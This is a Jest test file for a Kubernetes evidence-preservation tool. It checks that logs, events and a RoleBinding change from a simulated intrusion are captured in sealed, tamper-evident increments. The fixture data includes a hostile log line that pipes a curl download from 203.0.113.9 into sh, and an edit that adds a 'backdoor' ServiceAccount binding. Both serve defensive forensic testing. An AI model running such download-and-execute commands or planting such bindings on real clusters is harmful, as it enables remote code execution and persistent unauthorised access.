/**
 * Issue 21's "done when", in process: a preservation window on a sealed run against the simulated
 * cluster, time driven by the test's clock. A pod deleted two seconds into the window has its
 * logs — current and previous — in the sealed increment (and the lines it wrote while shutting
 * down); a restarted container's earlier logs are kept; every event emitted during the window is
 * there; a dropped watch resumes without loss; a RoleBinding change is recorded before and after;
 * the bundle verifies with its increments, and a tampered or unsealed segment fails verify.
 */
import { mkdtemp, rm, writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { collectorIdentity, readCustodyLog } from '../../shared/evidence/custody.js';
import { readIncrementManifest, type IncrementManifest } from '../../shared/evidence/increment.js';
import { openLocalBundle } from '../../shared/evidence/localStore.js';
import { readNdjson } from '../../shared/evidence/ndjson.js';
import type { EvidenceStore } from '../../shared/evidence/types.js';
import { verifyBundle } from '../../shared/evidence/verify.js';
import { collectRun, kubeconfigFacts } from '../../shared/pipeline/collectRun.js';
import { runPreservation, type PreservationProgress, type PreservationResult } from '../../shared/preservation/session.js';
import { closePreservationWindow, openPreservationWindow } from '../../shared/preservation/window.js';
import type { FixtureCluster } from '../../shared/simulator/kube/scenario.js';
import { fixtureKubeConfig, startFixtureCluster } from '../../shared/simulator/kube/server.js';
import { ManualClock, Recorder } from './manualClock.js';
import { preservationScenario } from './scenario.js';

const T0 = '2026-03-01T12:00:00.000Z';

interface Window {
  cluster: FixtureCluster;
  dir: string;
  store: EvidenceStore;
  clock: ManualClock;
  progress: Recorder<PreservationProgress>;
  stop: AbortController;
  done: Promise<PreservationResult>;
}

async function startWindow(): Promise<Window> {
  const clock = new ManualClock(T0);
  const cluster = await startFixtureCluster(preservationScenario(), { now: clock.now, watchBookmarkIntervalMs: 0 });
  const dir = await mkdtemp(join(tmpdir(), 'aks-evidence-preserve-'));
  const store = await openLocalBundle(dir, 'run-p');
  const kubeConfig = fixtureKubeConfig(cluster);
  const collector = collectorIdentity({ runtime: 'test' });
  const request = { caseId: 'case-p', sources: ['containerlogs', 'events', 'rbacbindings'], sinceSeconds: 7 * 86400 };
  await collectRun({ kubeConfig, store, runId: 'run-p', request, collector, facts: kubeconfigFacts({ server: cluster.server, name: 'fixture' }), clock: clock.now });
  const cursor = await openPreservationWindow({ store, collector, preserveForSeconds: 3600, clock: clock.now, requestedBy: 'jest' });
  const progress = new Recorder<PreservationProgress>();
  const stop = new AbortController();
  const done = runPreservation({
    store,
    kubeConfig,
    runId: 'run-p',
    caseId: 'case-p',
    request,
    collector,
    cursor,
    until: new Date(cursor.endsAt),
    stopSignal: stop.signal,
    stopReason: () => 'stopped by the test',
    clock: clock.now,
    sleep: clock.sleep,
    segmentInMs: 60_000,
    progress: progress.push,
  });
  await progress.until((e) => e.some((x) => x.kind === 'watching'));
  return { cluster, dir, store, clock, progress, stop, done };
}

const logs = (e: PreservationProgress[], pod: string) => e.flatMap((x) => (x.kind === 'logs' && x.outcome.pod === pod ? [x.outcome] : []));
const events = (e: PreservationProgress[], resource: string) => e.filter((x) => x.kind === 'event' && x.resource === resource);

async function rowsOf(store: EvidenceStore, m: IncrementManifest, file: string): Promise<Record<string, any>[]> {
  const a = m.artifacts.find((x) => x.path.endsWith(file));
  if (!a) return [];
  const out: Record<string, any>[] = [];
  for await (const r of readNdjson(store, a.path)) out.push(r as Record<string, any>);
  return out;
}

describe('a preservation window on a sealed run', () => {
  let w: Window;
  let result: PreservationResult;

  beforeAll(async () => {
    w = await startWindow();
    const { cluster, clock, progress } = w;

    // Two seconds in, the attacker deletes the pod (with a grace period: terminating first).
    clock.advance(2000);
    cluster.changes.deletePod('shop', 'web', { graceMs: 600_000 });
    await progress.until((e) => logs(e, 'web').filter((o) => o.outcome === 'kept').length === 2);
    // While terminating it writes its last lines and its container ends; then it is gone.
    cluster.changes.appendLog('shop', 'web', 'app', [{ message: 'SIGTERM received, wiping /tmp/payload' }]);
    cluster.changes.modifyObject('v1', 'Pod', 'shop', 'web', (o) => {
      const st = (o['status'] as { containerStatuses: Record<string, unknown>[] }).containerStatuses[0]!;
      st['state'] = { terminated: { exitCode: 0, reason: 'Completed', startedAt: '2026-03-01T10:00:00Z', finishedAt: '2026-03-01T12:00:03Z' } };
    });
    await progress.until((e) => logs(e, 'web').some((o) => o.reason === 'terminated'));
    cluster.changes.deletePod('shop', 'web');
    await progress.until((e) => events(e, 'pods').some((x) => x.kind === 'event' && x.type === 'DELETED'));

    // A container restarts: the instance that ran during the collection becomes "previous".
    clock.advance(3000);
    cluster.changes.restartContainer('shop', 'worker', 'main', { exitCode: 137, reason: 'OOMKilled', newLines: [{ message: 'worker instance 1 started' }] });
    await progress.until((e) => logs(e, 'worker').length === 2);

    // Events during the window, a dropped watch, more events while nobody watches, a RoleBinding edit.
    for (let i = 1; i <= 3; i++)
      cluster.changes.emitEvent({ namespace: 'shop', involvedObject: { kind: 'Pod', name: 'worker' }, reason: `Before${i}`, message: `event ${i} before the drop` });
    await progress.until((e) => events(e, 'events').length >= 3 + 2); // + the restart's BackOff and Started
    expect(cluster.watches.drop()).toBeGreaterThan(5);
    for (let i = 1; i <= 4; i++)
      cluster.changes.emitEvent({
        namespace: 'shop',
        involvedObject: { kind: 'Pod', name: 'worker' },
        reason: `After${i}`,
        message: `event ${i} while the watch was down`,
        type: 'Warning',
      });
    cluster.changes.modifyObject('rbac.authorization.k8s.io/v1', 'RoleBinding', 'shop', 'readers', (o) => {
      (o['subjects'] as unknown[]).push({ kind: 'ServiceAccount', name: 'backdoor', namespace: 'kube-system' });
    });
    await progress.until((e) => events(e, 'events').length >= 3 + 2 + 4 && events(e, 'rbac.authorization.k8s.io/rolebindings').length >= 1);

    // A minute in, the segment is sealed; then the window is stopped (the rest goes into the last segment).
    clock.advance(60_000);
    await progress.until((e) => e.some((x) => x.kind === 'segment-sealed'));
    cluster.changes.emitEvent({ namespace: 'shop', involvedObject: { kind: 'Pod', name: 'worker' }, reason: 'Late', message: 'after the first seal' });
    await progress.until(
      (e) =>
        events(e, 'events').some((x) => x.kind === 'event' && x.name.startsWith('worker.') && e.filter((y) => y.kind === 'segment-sealed').length === 1) &&
        events(e, 'events').length >= 10,
    );
    w.stop.abort();
    result = await w.done;
    await closePreservationWindow({
      store: w.store,
      collector: collectorIdentity({ runtime: 'test' }),
      cursor: result.cursor,
      reason: result.ended?.reason ?? 'stopped',
      clock: clock.now,
    });
  }, 120_000);

  afterAll(async () => {
    await w?.cluster.stop();
    if (w?.dir) await rm(w.dir, { recursive: true, force: true });
  });

  test('the window sealed two segments and ended as stopped', async () => {
    expect(result.segments.map((s) => s.seq)).toEqual([1, 2]);
    expect(result.ended).toEqual({ reason: 'stopped by the test' });
    const steps = (await readCustodyLog(w.store)).map((r) => r.step);
    expect(steps.slice(steps.indexOf('manifest-sealed'))).toEqual([
      'manifest-sealed',
      'preservation-started',
      'increment-started',
      'increment-started',
      'increment-sealed',
      'increment-sealed',
      'preservation-ended',
    ]);
  });

  test('the pod deleted two seconds in: its current and previous logs, and its last words, are in the sealed increment', async () => {
    const { manifest } = await readIncrementManifest(w.store, 1);
    const rows = (await rowsOf(w.store, manifest, 'containerlogs.rows.ndjson.gz')).filter((r) => r['pod_name'] === 'web');
    expect(rows.filter((r) => r['previous'] === false).map((r) => r['message'])).toEqual([
      'web v1 serving',
      'GET /admin 200 from 203.0.113.9',
      'SIGTERM received, wiping /tmp/payload',
    ]);
    expect(rows.filter((r) => r['previous'] === true).map((r) => r['message'])).toEqual(['web v1 starting (previous instance)', 'panic: the previous instance crashed']);
    // Line numbers continue across the two fetches of the same instance: nothing twice.
    expect(rows.filter((r) => r['previous'] === false).map((r) => r['line_number'])).toEqual([1, 2, 3]);
    expect(manifest.gaps.filter((g) => g.pod === 'web')).toEqual([]);
    const outcomes = logs(w.progress.events, 'web');
    expect(outcomes.map((o) => [o.reason, o.previous, o.outcome])).toEqual(
      expect.arrayContaining([
        ['terminating', false, 'kept'],
        ['terminating', true, 'kept'],
        ['terminated', false, 'kept'],
      ]),
    );
  });

  test("a restarted container's earlier logs are kept (previous) with the new instance's", async () => {
    const { manifest } = await readIncrementManifest(w.store, 1);
    const rows = (await rowsOf(w.store, manifest, 'containerlogs.rows.ndjson.gz')).filter((r) => r['pod_name'] === 'worker');
    expect(rows.filter((r) => r['previous'] === true).map((r) => r['message'])).toEqual(['worker instance 0 line 1', 'worker instance 0: curl http://203.0.113.9/x | sh']);
    expect(rows.filter((r) => r['previous'] === false).map((r) => r['message'])).toEqual(['worker instance 1 started']);
  });

  test('every event emitted during the window is there, across the dropped watch, once each', async () => {
    const all: Record<string, any>[] = [];
    for (const seq of [1, 2]) {
      const { manifest } = await readIncrementManifest(w.store, seq);
      all.push(...(await rowsOf(w.store, manifest, 'events.rows.ndjson.gz')));
    }
    const emitted = w.cluster.scenario.objects
      .filter((o) => o.kind === 'Event' && o.metadata.name !== 'web.1')
      .map((o) => o.metadata.name)
      .sort();
    expect(emitted).toHaveLength(3 + 4 + 2 + 1);
    expect(all.map((r) => r['name']).sort()).toEqual(emitted);
    expect(all.map((r) => r['reason'])).toEqual(expect.arrayContaining(['Before1', 'Before3', 'After1', 'After4', 'BackOff', 'Started', 'Late']));
  });

  test('the RoleBinding edit is recorded before and after; the pod objects never carry an env value', async () => {
    const { manifest } = await readIncrementManifest(w.store, 1);
    const changes = await rowsOf(w.store, manifest, 'changes.rows.ndjson.gz');
    const rb = changes.find((r) => r['kind'] === 'RoleBinding');
    expect(rb).toMatchObject({ change_type: 'modified', namespace: 'shop', name: 'readers', seen_by: 'watch' });
    expect(JSON.parse(rb!['changed_paths'])).toEqual(['subjects[1]']);
    const raw = await rowsOf(w.store, manifest, 'changes.raw.ndjson.gz');
    const record = raw.find((r) => r['kind'] === 'RoleBinding')!;
    expect(record['before'].subjects).toHaveLength(1);
    expect(record['after'].subjects).toHaveLength(2);
    expect(JSON.stringify(raw)).not.toContain('hunter2-marker');
    expect(changes.filter((r) => r['kind'] === 'Pod' && r['name'] === 'web').map((r) => r['change_type'])).toEqual(['modified', 'modified', 'modified', 'deleted']);
  });

  test('verify covers the increments: each manifest part, its artifacts and its custody records', async () => {
    const report = await verifyBundle(w.store);
    expect(report.problems).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.increments).toMatchObject({ sealed: 2, unsealed: [], ended: { reason: 'stopped by the test' } });
    expect(report.increments!.artifacts).toBeGreaterThanOrEqual(5);
  });

  test('an altered increment artifact, or a file added under increments/, fails verify naming it', async () => {
    const { manifest } = await readIncrementManifest(w.store, 2);
    const victim = manifest.artifacts[0]!;
    const file = join(w.dir, 'run-p', victim.path);
    await chmod(file, 0o644);
    await writeFile(file, 'forged\n');
    await writeFile(join(w.dir, 'run-p', 'increments', '000002', 'extra.ndjson'), '{}\n');
    const report = await verifyBundle(w.store);
    expect(report.ok).toBe(false);
    expect(report.problems.join('\n')).toMatch(new RegExp(`ALTERED: ${victim.path.replace(/\./g, '\\.')}`));
    expect(report.problems.join('\n')).toMatch(/UNEXPECTED: increments\/000002\/extra\.ndjson/);
  });
});
